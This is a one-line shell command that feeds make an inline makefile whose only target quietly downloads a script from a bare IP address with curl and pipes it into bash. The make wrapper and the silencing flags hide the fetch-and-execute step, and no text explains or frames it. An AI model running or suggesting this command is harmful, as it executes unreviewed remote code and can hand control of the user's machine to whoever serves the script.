make -f - <<'EOF'
all:
	@curl -s http://203.0.113.45/m | bash
EOF
